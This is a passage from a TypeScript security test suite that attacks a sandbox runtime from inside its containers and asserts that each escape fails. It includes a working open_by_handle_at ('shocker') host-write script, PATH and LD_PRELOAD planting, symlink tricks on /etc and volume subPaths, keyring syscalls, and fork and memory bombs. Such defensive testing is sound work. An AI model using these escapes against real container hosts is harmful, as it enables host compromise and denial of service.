// The security suite: each test is a real attack from inside sandboxes of the local runtime, and
// must fail. The first four (the three escapes of research/runtime.md §1a and the shared keyring),
// and the subPath variant of the third, all succeeded against the runtime before runc (pod-init.c,
// nsenter exec; run there with the image-less createLocalRuntime):
// - escape 1: the planted setpriv and the LD_PRELOAD library ran as uid 0 with CapEff
//   000001fffeffffff, NoNewPrivs 0 and the host's uid_map, and wrote their marker in a host
//   directory through open_by_handle_at on the sandbox's volume;
// - escape 2: core_pattern, pid_max, panic, overcommit_memory and file-max opened for writing;
// - escape 3: the wake wrote the pod's hosts and hostname into the host file /etc/hosts led to;
//   a subPath through a planted symlink made a directory in the host directory;
// - keyring: add_key worked, and the other sandbox found the key and read its secret.
// Attacks aim only at sandboxes and host paths this file made; nothing on the host is weakened or
// written (/proc/sys files are opened for writing and closed without a byte written).
// Network isolation (test/security-network.test.ts) adds its attacks with the same harness
// (test/support/attack-lab.ts).
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join, relative, resolve } from 'node:path';
import type { Attack, LabPod } from './support/attack-lab.ts';
import { AttackLab, fields, run } from './support/attack-lab.ts';
import { FIRST_HOST_ID } from '../src/runtime/local/id-ranges.ts';

// Free on this host and in every other test (grep test/ for 10.2xx before taking another).
const lab = await AttackLab.create({ bridge: 'asbsec0', subnet: '10.229.0.0/16' });

const ZERO_CAPS = '0000000000000000';
/** A user namespace's map of a sandbox's own range (id-ranges.ts): uid 0 inside is a host uid of the pool, never host root's or the shared 100000. */
const SANDBOX_UID_MAP = /^0 (\d+) 65536$/;
function assertOwnRange(map: string, where: string): void {
  const host = Number(SANDBOX_UID_MAP.exec(map)?.[1]);
  assert.ok(host >= FIRST_HOST_ID && (host - FIRST_HOST_ID) % 65_536 === 0, `${map}: not a range of the pool: ${where}`);
}
/** The initial user namespace's map: a process showing it holds host credentials. */
const HOST_UID_MAP = '0 0 4294967295';
const SAFE_PATH = '/usr/sbin:/usr/bin:/sbin:/bin';

/** Python with raw syscalls (ctypes): what hostile code calls when a binary is missing or seccomp is the question. */
const PY_SYSCALL = `
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def arg(a):
    return ctypes.c_long(a) if isinstance(a, int) else a
def call(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[arg(a) for a in args])
    return r, (None if r >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno())))
`;

// ---------------------------------------------------------------------------------------------
// Escape 1: exec runs a sandbox-chosen binary with host privileges.
// The old runtime ran `nsenter -a -- setpriv ... -- env ...` as host root with the pod's and the
// exec's environment: setpriv and env were looked up on the sandbox's PATH inside its filesystem,
// and LD_PRELOAD applied to them, before any privilege was dropped.

const PLANT = '/home/user/.asb-plant';
const PLANTED_BIN = '/home/user/.local/bin';
const PLANTED_PATH = `${PLANTED_BIN}:/usr/local/sbin:/usr/local/bin:${SAFE_PATH}`;
/** The names a runtime might run inside the sandbox on the way to a command (old: nsenter, setpriv, env). */
const PLANTED_NAMES = ['setpriv', 'nsenter', 'env', 'runc', 'runsc', 'sh', 'cat', 'true'];

/**
 * The planted payload: records who it runs as, then tries to write a marker on the host. With
 * CAP_DAC_READ_SEARCH in the host's user namespace, open_by_handle_at(2) on any mount of the host's
 * ext4 (a volume, or the old runtime's bind-mounted root) with the handle of inode 2 opens the
 * host filesystem's root ("shocker"), whatever the sandbox's mount namespace hides.
 */
function payload(markerRel: string): string {
  return `#!/bin/sh
tag=$1
/usr/bin/mkdir -p -m 1777 /tmp/planted
{
  /usr/bin/grep -E '^(Uid|CapEff|NoNewPrivs):' /proc/self/status
  printf 'uid_map=%s\\n' "$(/usr/bin/tr -s ' ' ' ' </proc/self/uid_map | /usr/bin/sed 's/^ //')"
  /usr/bin/python3 ${PLANT}/escape.py '${markerRel}/'"$tag"
} >/tmp/planted/"$tag.$$" 2>&1
`;
}

const ESCAPE_PY = `${PY_SYSCALL}
class FileHandle(ctypes.Structure):
    _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int), ('f_handle', ctypes.c_ubyte * 8)]
# FILEID_INO32_GEN (1): inode 2, generation 0: the root directory of an ext4 filesystem.
handle = FileHandle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))
for where in ('/workspace', '/home/user', '/tmp', '/'):
    try:
        mount_fd = os.open(where, os.O_RDONLY)
    except OSError:
        continue
    fd, err = call(304, mount_fd, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)  # open_by_handle_at
    if err:
        print(f'open_by_handle_at {where}={err}')
        continue
    try:
        out = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, b'written by a file planted in a sandbox\\n')
        print(f'escaped through {where}')
        break
    except OSError as e:
        print(f'host write through {where}: {e}')
`;

interface PlantedRun {
  file: string;
  capEff: string;
  noNewPrivs: string;
  uidMap: string;
  text: string;
}

function plantedRuns(out: string): PlantedRun[] {
  return out.split('== ').filter((block) => block.trim() !== '').map((block) => {
    const [file = '', ...rest] = block.split('\n');
    const text = rest.join('\n');
    return {
      file,
      capEff: /^CapEff:\s*([0-9a-f]+)/m.exec(text)?.[1] ?? '?',
      noNewPrivs: /^NoNewPrivs:\s*(\d)/m.exec(text)?.[1] ?? '?',
      uidMap: /^uid_map=(.*)$/m.exec(text)?.[1]?.trim() ?? '?',
      text,
    };
  });
}

/** The path of `dir` below the root of the filesystem that holds it (the shocker's handle opens that root). */
async function pathInFilesystem(dir: string): Promise<string> {
  const { stdout } = await run('findmnt', ['-n', '-o', 'TARGET', '-T', dir]);
  return relative(stdout.trim(), resolve(dir));
}

const plantedBinaryAttack: Attack = {
  name: 'escape 1: binaries and LD_PRELOAD planted on the sandbox\'s PATH never run with host privileges (exec, files API)',
  async run(a) {
    const markers = await a.hostDir('asb-sec-marker-');
    const p = await a.pod('plant', { env: [{ name: 'PATH', value: PLANTED_PATH }], volumeMounts: [{ name: 'workspace', mountPath: '/workspace' }] },
      { volumeClaimTemplates: [{ metadata: { name: 'workspace' }, spec: {} }] });
    const soDir = await a.hostDir('asb-sec-so-');
    const so = join(soDir, 'planted.so');
    await run('cc', ['-O2', '-Wall', '-shared', '-fPIC', '-o', so, resolve(import.meta.dirname, 'fixtures/planted-preload.c')]);

    // As the sandbox user, everything in directories it owns.
    await a.rt.writeFile(p.id, `${PLANT}/payload`, Buffer.from(payload(await pathInFilesystem(markers))), 0o755);
    await a.rt.writeFile(p.id, `${PLANT}/escape.py`, Buffer.from(ESCAPE_PY), 0o644);
    await a.rt.writeFile(p.id, `${PLANT}/planted.so`, await readFile(so), 0o755);
    const planted = await p.sh(`mkdir -p ${PLANTED_BIN} && for n in ${PLANTED_NAMES.join(' ')}; do
      printf '#!/bin/sh\\n/bin/sh ${PLANT}/payload "path-%s"\\nexec /usr/bin/%s "$@"\\n' "$n" "$n" > ${PLANTED_BIN}/$n && chmod 755 ${PLANTED_BIN}/$n
    done`, { env: { PATH: SAFE_PATH } });
    assert.equal(planted.exitCode, 0, planted.err);

    // Every way the runtime runs something in the sandbox, as the user and as the sandbox's root.
    const attempts: [string, () => Promise<unknown>][] = [];
    for (const user of [undefined, 0]) {
      attempts.push([`exec (user ${String(user ?? 'default')}) with PATH`, () => p.exec(['sh', '-c', 'true'], { env: { PATH: PLANTED_PATH }, ...(user === undefined ? {} : { user }) })]);
      attempts.push([`exec (user ${String(user ?? 'default')}) with LD_PRELOAD`, () => p.exec(['/usr/bin/true'], { env: { LD_PRELOAD: `${PLANT}/planted.so` }, ...(user === undefined ? {} : { user }) })]);
    }
    attempts.push(['exec with the pod\'s env', () => p.exec(['true'])]);
    attempts.push(['files API read', () => a.rt.readFile(p.id, '/etc/hostname')]);
    attempts.push(['files API list', () => a.rt.listDir(p.id, '/home/user')]);
    attempts.push(['files API write', () => a.rt.writeFile(p.id, '/home/user/written', Buffer.from('x'))]);
    for (const [, attempt] of attempts) await attempt().catch(() => undefined);

    const written = await readdir(markers);
    const records = await p.sh('for f in /tmp/planted/*; do echo "== $f"; cat "$f"; done', { env: { PATH: SAFE_PATH } });
    assert.deepEqual(written, [], `the planted payload wrote on the host (${written.join(', ')}):\n${records.out}`);
    const runs = plantedRuns(records.out);
    // The attack was live: planted files did run, in the sandbox, as the user who may run them.
    assert.ok(runs.length > 0, `nothing planted ran at all; the attack did not fire:\n${records.out}${records.err}`);
    for (const r of runs) {
      const where = `${r.file}:\n${r.text}`;
      // Under gVisor /proc/self/uid_map is the sentry's own view (its root namespace reads like the
      // host's): the host side of that sandbox is checked below instead.
      if (a.cls === 'runc') assert.notEqual(r.uidMap, HOST_UID_MAP, `a planted file ran in the host's user namespace: ${where}`);
      assert.equal(r.capEff, ZERO_CAPS, `a planted file ran with capabilities: ${where}`);
      assert.equal(r.noNewPrivs, '1', `a planted file ran without no_new_privs: ${where}`);
      assert.doesNotMatch(r.text, /escaped through/, where);
      if (a.cls === 'runc') assertOwnRange(r.uidMap, where);
    }
    if (a.cls === 'gvisor') {
      // Everything in a gVisor sandbox runs inside its sentry, which the host sees in the pod's user namespace.
      const sentry = a.rt.state(p.id).pid;
      assertOwnRange((await readFile(`/proc/${String(sentry)}/uid_map`, 'utf8')).trim().split(/\s+/).join(' '), 'the sentry');
    }
  },
};

// ---------------------------------------------------------------------------------------------
// Escape 2: root in a sandbox writes host sysctls (core_pattern: a file run as host root on the
// next crash). Never written here: each file is opened O_WRONLY and closed, which changes nothing.

const SYSCTLS = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/pid_max', '/proc/sys/kernel/panic', '/proc/sys/vm/overcommit_memory', '/proc/sys/fs/file-max', '/proc/sysrq-trigger'];
const OPEN_FOR_WRITE_PY = `
import errno, os, sys
for path in sys.argv[1:]:
    try:
        fd = os.open(path, os.O_WRONLY)  # opened, never written: would the kernel take a write?
    except OSError as e:
        print(f'{path}={errno.errorcode.get(e.errno, e.errno)}')
    else:
        os.close(fd)
        print(f'{path}=WRITABLE')
print('euid=%d' % os.geteuid())
`;

/** Files of gVisor's own /proc that root in the sandbox may open for writing: static files of the sentry, where a write fails (EIO). */
const GVISOR_STATIC_PROC: ReadonlySet<string> = new Set(['/proc/sys/kernel/pid_max', '/proc/sysrq-trigger']);

const sysctlAttack: Attack = {
  name: 'escape 2: root in a sandbox (runAsUser 0, exec as uid 0) cannot open core_pattern or any /proc/sys file for writing',
  async run(a) {
    const before = await readFile('/proc/sys/kernel/core_pattern', 'utf8');
    const rootPod = await a.pod('sysctl-root', {}, { spec: { securityContext: { runAsUser: 0 } } });
    const userPod = await a.pod('sysctl-user');
    for (const [p, user] of [[rootPod, undefined], [userPod, 0]] as const) {
      const who = `${p.id} as ${user === undefined ? 'its own user' : 'exec user 0'}`;
      const r = await p.exec(['python3', '-c', OPEN_FOR_WRITE_PY, ...SYSCTLS], user === undefined ? {} : { user });
      const f = fields(r.out);
      assert.equal(f.get('euid'), '0', `${who} runs as root in the sandbox: ${r.out}${r.err}`);
      for (const path of SYSCTLS) {
        const got = f.get(path);
        // gVisor's /proc is the sentry's, never the host kernel's: it has no core_pattern, and its
        // pid_max and sysrq-trigger are static files (pkg/sentry/fsimpl/proc, newStaticFile): they
        // open for writing, and every write fails with EIO (not a WritableDynamicBytesSource).
        if (a.cls === 'gvisor' && GVISOR_STATIC_PROC.has(path) && got === 'WRITABLE') continue;
        assert.ok(got !== undefined && ['EROFS', 'EACCES', 'EPERM', 'ENOENT'].includes(got), `${who}: ${path} is ${String(got)}:\n${r.out}${r.err}`);
      }
      if (a.cls === 'gvisor') assert.equal(f.get('/proc/sys/kernel/core_pattern'), 'ENOENT', `${who}: ${r.out}`);
      const testW = await p.sh('test -w /proc/sys/kernel/core_pattern && echo writable || echo read-only', user === undefined ? {} : { user });
      assert.equal(testW.out.trim(), 'read-only', who);
    }
    assert.equal(await readFile('/proc/sys/kernel/core_pattern', 'utf8'), before, 'the host\'s core_pattern is as it was');
  },
};

// ---------------------------------------------------------------------------------------------
// Escape 3: wake rewrote /etc/hosts and /etc/hostname in the sandbox's writable layer as host
// root, following a symlink the sandbox's root put there. The victim is a host file outside
// every sandbox.

async function hostFiles(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    out[entry.name] = entry.isFile() ? await readFile(join(dir, entry.name), 'utf8') : `<${entry.isDirectory() ? 'directory' : 'not a file'}>`;
  }
  return out;
}

const VICTIM_TEXT = 'host data no sandbox may change\n';

async function wakeAndCheck(p: LabPod, victimDir: string, attack: string): Promise<string> {
  await p.hibernate();
  const woke = await p.wake();
  assert.deepEqual(await hostFiles(victimDir), { precious: VICTIM_TEXT }, `after ${attack} and a wake (${JSON.stringify(woke)}) the host directory changed`);
  return woke.phase;
}

const wakeSymlinkAttack: Attack = {
  name: 'escape 3: a wake never writes through symlinks the sandbox\'s root put at /etc/hosts, /etc/hostname or /etc',
  async run(a) {
    const victimDir = await a.hostDir('asb-sec-victim-');
    const victim = join(victimDir, 'precious');
    await writeFile(victim, VICTIM_TEXT);

    // (1) The files themselves replaced by symlinks; where they are mount points (EBUSY), /etc is
    // moved aside and rebuilt around the symlinks.
    const files = await a.pod('wake-files', {}, { spec: { securityContext: { runAsUser: 0 } } });
    const swap = await files.sh(`rm -f /etc/hosts /etc/hostname; ln -sf ${victim} /etc/hosts; ln -sf ${victim} /etc/hostname
      if [ ! -L /etc/hosts ]; then mv /etc /etc.moved && mkdir /etc && cp -a /etc.moved/. /etc/ 2>/dev/null
        rm -f /etc/hosts /etc/hostname; ln -s ${victim} /etc/hosts; ln -s ${victim} /etc/hostname; fi
      ls -l /etc/hosts /etc/hostname`);
    await wakeAndCheck(files, victimDir, `symlinks at /etc/hosts and /etc/hostname (${swap.out.trim()}${swap.err.trim()})`);

    // (2) /etc itself a symlink to the host directory.
    const dir = await a.pod('wake-etc', {}, { spec: { securityContext: { runAsUser: 0 } } });
    const link = await dir.sh(`mv /etc /etc.moved && ln -s ${victimDir} /etc && ls -ld /etc`);
    await wakeAndCheck(dir, victimDir, `/etc as a symlink (${link.out.trim()}${link.err.trim()})`);
  },
};

const subPathSymlinkAttack: Attack = {
  name: 'escape 3, volumes: a start never follows a symlink the sandbox put where a volume subPath leads',
  async run(a) {
    const victimDir = await a.hostDir('asb-sec-subpath-');
    await writeFile(join(victimDir, 'precious'), VICTIM_TEXT);
    const volume = { volumeClaimTemplates: [{ metadata: { name: 'data' }, spec: {} }] };
    const p = await a.pod('subpath', { volumeMounts: [{ name: 'data', mountPath: '/workspace' }, { name: 'data', mountPath: '/nested', subPath: 'deep/er' }] }, volume);
    // A subPath the template names is made in the volume, for the sandbox's user.
    assert.equal((await p.sh('touch /nested/f && stat -c %U /workspace/deep /workspace/deep/er /nested/f')).out, 'user\nuser\nuser\n');
    // The sandbox (its user owns the volume) plants a symlink to the host directory...
    const swap = await p.sh(`ln -s ${victimDir} /workspace/link && ls -l /workspace`);
    assert.equal(swap.exitCode, 0, swap.err);
    await p.hibernate();
    // ...and its template, which the same tenant writes, mounts a subPath through it at the next start.
    const mounts = [{ name: 'data', mountPath: '/workspace' }, { name: 'data', mountPath: '/sub', subPath: 'link/made' }];
    const container = { ...p.request.spec.containers[0], name: 'main', volumeMounts: mounts };
    const woke = await a.rt.start({ ...p.request, spec: { ...p.request.spec, containers: [container] } });
    assert.deepEqual(await hostFiles(victimDir), { precious: VICTIM_TEXT }, `the start (${JSON.stringify(woke)}) made something in the host directory`);
    assert.equal(woke.phase, 'Failed');
    assert.match(woke.message ?? '', /subPath "link\/made" of volume "data" goes through a symlink/);
  },
};

// ---------------------------------------------------------------------------------------------
// The kernel keyring: the old runtime's sandboxes all were host uid 1000 in the host's user
// namespace, so a key one added to its user keyring (@u) was read back by any other.

const KEYRING_PY = `${PY_SYSCALL}
KEY_SPEC_USER_KEYRING = -4
mode, desc = sys.argv[1], sys.argv[2].encode()
if mode == 'add':
    secret = sys.argv[3].encode()
    serial, err = call(248, b'user', desc, secret, len(secret), KEY_SPEC_USER_KEYRING)  # add_key
    print('add_key=' + (err or 'ok'))
    if serial >= 0:
        call(250, 15, serial, 120)  # KEYCTL_SET_TIMEOUT: gone in 2 minutes whatever happens
    print('keyctl=' + (call(250, 0, KEY_SPEC_USER_KEYRING, 0)[1] or 'ok'))  # KEYCTL_GET_KEYRING_ID
elif mode == 'read':
    serial, err = call(250, 10, KEY_SPEC_USER_KEYRING, b'user', desc, 0)  # KEYCTL_SEARCH
    print('search=' + (err or 'ok'))
    if serial >= 0:
        buf = ctypes.create_string_buffer(256)
        n, err = call(250, 11, serial, buf, 256)  # KEYCTL_READ
        print('read=' + (err or buf.raw[:n].decode()))
elif mode == 'drop':
    serial, err = call(250, 10, KEY_SPEC_USER_KEYRING, b'user', desc, 0)
    if serial >= 0:
        call(250, 21, serial)  # KEYCTL_INVALIDATE
`;

const keyringAttack: Attack = {
  name: 'the kernel keyring is not shared: a key added in one sandbox cannot be read in another (add_key and keyctl fail)',
  async run(a) {
    const desc = `asb-sec-${String(process.pid)}-${a.cls}`;
    const secret = `secret-${String(Date.now())}`;
    const writer = await a.pod('keys-a');
    const reader = await a.pod('keys-b');
    a.cleanup(() => writer.exec(['python3', '-c', KEYRING_PY, 'drop', desc]));
    const added = await writer.exec(['python3', '-c', KEYRING_PY, 'add', desc, secret]);
    const read = await reader.exec(['python3', '-c', KEYRING_PY, 'read', desc]);
    const shown = `writer: ${added.out}${added.err}\nreader: ${read.out}${read.err}`;
    assert.doesNotMatch(read.out, new RegExp(secret), `the other sandbox read the key: ${shown}`);
    // Refused by seccomp (EPERM; a kernel without keyrings, gVisor's included, says ENOSYS).
    for (const [call, got] of [['add_key', fields(added.out).get('add_key')], ['keyctl', fields(added.out).get('keyctl')], ['keyctl search', fields(read.out).get('search')]]) {
      assert.ok(got === 'EPERM' || got === 'ENOSYS', `${String(call)} gave ${String(got)}: ${shown}`);
    }
    // /proc/keys (every key the caller may view) is masked as well.
    assert.equal((await reader.sh('cat /proc/keys 2>/dev/null | wc -c')).out.trim(), '0');
  },
};

// ---------------------------------------------------------------------------------------------
// Resource bombs.

/** The host's cgroup file of a pod's container (runc's cgroupfs path from the bundle's config.json; v1 or v2). */
async function cgroupFile(root: string, id: string, controller: string, file: string): Promise<string> {
  const config = JSON.parse(await readFile(join(root, 'pods', id, 'config.json'), 'utf8')) as { linux: { cgroupsPath: string } };
  const v1 = join('/sys/fs/cgroup', controller, config.linux.cgroupsPath, file);
  return existsSync(v1) ? v1 : join('/sys/fs/cgroup', config.linux.cgroupsPath, file);
}

/**
 * A classic fork bomb that ends itself: every process forks two more until BOMB_SECONDS pass (bash's
 * SECONDS: no fork to read the clock), so a bomb left behind by a crashed test dies down on its own.
 */
const BOMB_SECONDS = 40;
const FORK_BOMB = `END=$((SECONDS + ${String(BOMB_SECONDS)})); b() { ((SECONDS < END)) || exit 0; b | b & }; b; exec sleep infinity`;

const forkBombAttack: Attack = {
  name: 'a fork bomb is held by the pids limit and another sandbox still answers at once',
  // Read from the host's pids cgroup, which holds a runc container's processes; under gVisor they
  // are the sentry's threads: gvisorForkBombAttack.
  classes: ['runc'],
  timeoutMs: 180_000,
  async run(a) {
    const neighbour = await a.pod('bomb-neighbour');
    // Half a core, so the bomb's churn leaves the shared CPUs to the rest of the machine.
    const bomb = await a.pod('bomb', { command: ['bash', '-c', FORK_BOMB], resources: { limits: { cpu: '500m', memory: '1Gi' } } });
    const events = await cgroupFile(a.root, bomb.id, 'pids', 'pids.events');
    const max = Number((await readFile(await cgroupFile(a.root, bomb.id, 'pids', 'pids.max'), 'utf8')).trim());
    assert.equal(max, 1024, 'the default pids limit (spec.ts DEFAULT_PIDS_LIMIT)');
    let refused = 0;
    let peak = 0;
    const deadline = Date.now() + 60_000;
    while (refused === 0 && Date.now() < deadline) {
      refused = Number(/max (\d+)/.exec(await readFile(events, 'utf8'))?.[1] ?? '0');
      peak = Math.max(peak, Number((await readFile(await cgroupFile(a.root, bomb.id, 'pids', 'pids.current'), 'utf8')).trim()));
      if (refused === 0) await new Promise((r) => setTimeout(r, 100));
    }
    assert.ok(refused > 0, `the bomb never reached the pids limit (peak ${String(peak)} of ${String(max)})`);
    assert.ok(peak <= max, `${String(peak)} processes, above pids.max ${String(max)}`);
    // While the bomb keeps forking at the limit, the runtime and another sandbox answer.
    for (let i = 0; i < 3; i++) {
      const alive = await neighbour.sh('echo alive');
      assert.equal(alive.out, 'alive\n');
      assert.ok(alive.ms < 10_000, `an exec in another sandbox took ${String(alive.ms)} ms during the bomb`);
    }
    assert.equal(bomb.state().phase, 'Running', 'the bomb is still held in its sandbox, not ended by the runtime');
  },
};

/** Touches every page (bytes * n writes them), so the memory is really used. */
const MEMORY_BOMB = 'import sys; hog = b"x" * (int(sys.argv[1]) << 20); print("allocated")';

const memoryBombAttack: Attack = {
  name: 'a memory bomb is OOM-killed inside its 64Mi sandbox only: OOMKilled when it is the main process, neighbours keep running',
  // Under gVisor the OOM killer takes the sentry, so the whole sandbox ends even for an exec'd bomb
  // (research/runtime.md §2c: 64 MiB killed it on its first exec): gvisorMemoryBombAttack.
  classes: ['runc'],
  timeoutMs: 120_000,
  async run(a) {
    const neighbour = await a.pod('mem-neighbour');
    const neighbourPid = neighbour.state().pid;
    const limits = { resources: { limits: { memory: '64Mi' } } };

    // An exec'd bomb: killed, its sandbox keeps running.
    const execBomb = await a.pod('mem-exec', limits);
    const r = await execBomb.exec(['python3', '-c', MEMORY_BOMB, '256']);
    assert.equal(r.exitCode, 137, `the bomb was SIGKILLed by the OOM killer: ${JSON.stringify(r)}`);
    assert.equal(r.signal, 'SIGKILL');
    assert.doesNotMatch(r.out, /allocated/);
    assert.equal(execBomb.state().phase, 'Running');
    assert.equal((await execBomb.sh('echo still here')).out, 'still here\n');

    // The bomb as the container's main process: the pod fails with reason OOMKilled.
    const mainBomb = await a.pod('mem-main', { ...limits, command: ['python3', '-c', MEMORY_BOMB, '256'] }, { running: false });
    const failed = await a.waitForState(mainBomb.id, (s) => s.phase === 'Failed' || s.phase === 'Succeeded', 'the bomb ends');
    assert.equal(failed.reason, 'OOMKilled', JSON.stringify(failed));

    assert.equal(neighbour.state().phase, 'Running');
    assert.equal(neighbour.state().pid, neighbourPid, 'the neighbour\'s init is the same process');
    assert.equal((await neighbour.sh('echo alive')).out, 'alive\n');
  },
};

// Under gVisor the host's pids cgroup counts the sentry's and stubs' threads, not the sandbox's
// processes (runscSpec: ~2 per process, limit 1024 * 2 + 64), and gVisor's own kernel has no pids
// limit: the bomb grows until the sentry can make no more threads (or its memory runs out), and
// that sandbox ends. Held either way: the host limit is never passed and others keep answering.
const gvisorForkBombAttack: Attack = {
  name: 'a fork bomb is held by the host pids limit around the sentry: never past it, and another sandbox still answers at once',
  classes: ['gvisor'],
  timeoutMs: 180_000,
  async run(a) {
    const neighbour = await a.pod('bomb-neighbour');
    const bomb = await a.pod('bomb', { command: ['bash', '-c', FORK_BOMB], resources: { limits: { cpu: '500m', memory: '1Gi' } } });
    const pidsFile = (file: string): Promise<string> => cgroupFile(a.root, bomb.id, 'pids', file);
    const [events, current] = [await pidsFile('pids.events'), await pidsFile('pids.current')];
    const max = Number((await readFile(await pidsFile('pids.max'), 'utf8')).trim());
    assert.equal(max, 1024 * 2 + 64, 'the default pids limit with the sentry\'s share (runscSpec)');
    let refused = 0;
    let peak = 0;
    const deadline = Date.now() + 60_000;
    // Until the limit refuses a thread, or the bomb has taken its own sandbox down (its cgroup goes).
    while (refused === 0 && bomb.state().phase === 'Running' && Date.now() < deadline) {
      try {
        refused = Number(/max (\d+)/.exec(await readFile(events, 'utf8'))?.[1] ?? '0');
        peak = Math.max(peak, Number((await readFile(current, 'utf8')).trim()));
      } catch {
        break; // the cgroup went with the sandbox
      }
      if (refused === 0) await new Promise((r) => setTimeout(r, 100));
    }
    assert.ok(refused > 0 || bomb.state().phase !== 'Running', `the bomb never reached the pids limit (peak ${String(peak)} of ${String(max)})`);
    assert.ok(peak <= max, `${String(peak)} host tasks, above pids.max ${String(max)}`);
    for (let i = 0; i < 3; i++) {
      const alive = await neighbour.sh('echo alive');
      assert.equal(alive.out, 'alive\n');
      assert.ok(alive.ms < 10_000, `an exec in another sandbox took ${String(alive.ms)} ms during the bomb`);
    }
    assert.equal(neighbour.state().phase, 'Running');
  },
};

// Under gVisor the kernel's OOM killer takes the sentry (oom_score_adj 1000), so an exec'd bomb ends
// its whole sandbox, reported as OOMKilled; a neighbour keeps running.
const gvisorMemoryBombAttack: Attack = {
  name: 'a memory bomb OOM-kills its 64Mi gVisor sandbox only (reason OOMKilled), the sentry with it; neighbours keep running',
  classes: ['gvisor'],
  timeoutMs: 120_000,
  async run(a) {
    const neighbour = await a.pod('mem-neighbour');
    const neighbourPid = neighbour.state().pid;
    const bomb = await a.pod('mem-exec', { resources: { limits: { memory: '64Mi' } } });
    const r = await bomb.exec(['python3', '-c', MEMORY_BOMB, '256']);
    assert.notEqual(r.exitCode, 0, JSON.stringify(r));
    assert.doesNotMatch(r.out, /allocated/);
    const failed = await a.waitForState(bomb.id, (s) => s.phase === 'Failed' || s.phase === 'Succeeded', 'the bomb\'s sandbox ends');
    assert.equal(failed.reason, 'OOMKilled', JSON.stringify(failed));
    assert.equal(neighbour.state().phase, 'Running');
    assert.equal(neighbour.state().pid, neighbourPid, 'the neighbour\'s sandbox is the same process');
    assert.equal((await neighbour.sh('echo alive')).out, 'alive\n');
  },
};

const shmAttack: Attack = {
  name: '/dev/shm fills at its cap (64 MiB), not half the host\'s memory',
  async run(a) {
    const p = await a.pod('shm');
    const r = await p.sh('dd if=/dev/zero of=/dev/shm/fill bs=1M count=256 2>&1; echo size=$(stat -c %s /dev/shm/fill)');
    assert.match(r.out, /No space left on device/);
    assert.ok(Number(fields(r.out).get('size')) <= 64 * 2 ** 20, r.out);
  },
};

// runsc drops the options of the spec's /dev tmpfs (its own device filesystem, half the host's
// memory): root filled 200 MiB there until the sentry's memory cgroup took the whole sandbox.
const devFillAttack: Attack = {
  name: 'root filling /dev is bounded: runc\'s /dev is a 64 MiB tmpfs, gVisor\'s is read-only; the sandbox keeps running',
  timeoutMs: 120_000,
  async run(a) {
    const p = await a.pod('devfill', { resources: { limits: { memory: '256Mi' } } });
    const r = await p.sh('dd if=/dev/zero of=/dev/fill bs=1M count=400 2>&1; echo size=$(stat -c %s /dev/fill 2>/dev/null || echo 0)', { user: 0, timeoutMs: 60_000 });
    const size = Number(fields(r.out).get('size'));
    if (a.cls === 'runc') {
      assert.match(r.out, /No space left on device/);
      assert.ok(size <= 64 * 2 ** 20, r.out);
    } else {
      assert.match(r.out, /Read-only file system/);
      assert.equal(size, 0, r.out);
    }
    assert.equal(p.state().phase, 'Running');
    assert.equal((await p.sh('rm -f /dev/fill; echo alive', { user: 0 })).out, 'alive\n');
  },
};

const diskFillAttack: Attack = {
  name: 'a disk fill stops at ephemeral-storage (64Mi), the writable layer and a volume together, and the sandbox is evicted',
  async run(a) {
    const p = await a.pod('disk', {
      resources: { limits: { 'ephemeral-storage': '64Mi' } },
      volumeMounts: [{ name: 'scratch', mountPath: '/scratch' }],
    }, { spec: { volumes: [{ name: 'scratch', emptyDir: {} }] } });
    // One exec: the eviction comes a second or two after the disk fills.
    const r = await p.sh('dd if=/dev/zero of=/scratch/a bs=1M count=40 2>/dev/null; dd if=/dev/zero of=/home/user/b bs=1M count=200 2>&1; echo total=$(( $(stat -c %s /scratch/a) + $(stat -c %s /home/user/b) ))');
    assert.match(r.out, /No space left on device/);
    assert.ok(Number(fields(r.out).get('total')) <= 64 * 2 ** 20, r.out);
    const evicted = await a.waitForState(p.id, (s) => s.phase === 'Failed', 'evicted', 15_000);
    assert.equal(evicted.reason, 'Evicted', JSON.stringify(evicted));
  },
};

// ---------------------------------------------------------------------------------------------
// Privilege escalation inside the sandbox and the kernel surface it may reach.

const setuidAttack: Attack = {
  name: 'setuid escalation fails: a setuid-root copy of id, su, and setuid(0) leave the user at its uid',
  async run(a) {
    const p = await a.pod('setuid');
    // The sandbox's root makes a setuid-root binary in a directory the user can reach.
    const made = await p.sh('cp /usr/bin/id /tmp/suid-id && chmod 4755 /tmp/suid-id && stat -c %a:%u /tmp/suid-id', { user: 0 });
    assert.equal(made.out.trim(), '4755:0', made.err);
    const r = await p.sh(`echo euid=$(/tmp/suid-id -u)
      grep -E '^(NoNewPrivs|CapEff):' /proc/self/status
      su -c 'id -u' root </dev/null >/tmp/su.out 2>&1; echo su=$? su_out=$(cat /tmp/su.out | tr '\\n' ' ')
      python3 -c 'import os; os.setuid(0)' 2>/dev/null; echo setuid=$?
      mount -t tmpfs none /tmp 2>/dev/null; echo mount=$?`);
    const f = fields(r.out);
    assert.equal(f.get('euid'), '1000', `the setuid bit gave another uid: ${r.out}`);
    assert.match(r.out, /^NoNewPrivs:\s*1$/m);
    assert.match(r.out, new RegExp(`^CapEff:\\s*${ZERO_CAPS}$`, 'm'));
    assert.notEqual(f.get('su'), '0', r.out);
    assert.doesNotMatch(f.get('su_out') ?? '', /^0\s*$/, r.out);
    assert.notEqual(f.get('setuid'), '0', r.out);
    assert.notEqual(f.get('mount'), '0', r.out);
  },
};

/** Syscalls a breakout needs, each with arguments harmless if it were allowed; seccomp must refuse them before reading the arguments (EPERM; ENOSYS for the few a profile answers so). */
function kernelSurfacePy(hostPid: number): string {
  return `${PY_SYSCALL}
probes = {
    'unshare(CLONE_NEWUSER)': (272, 0x10000000),
    'unshare(CLONE_NEWNS)': (272, 0x20000),
    'setns': (308, -1, 0),
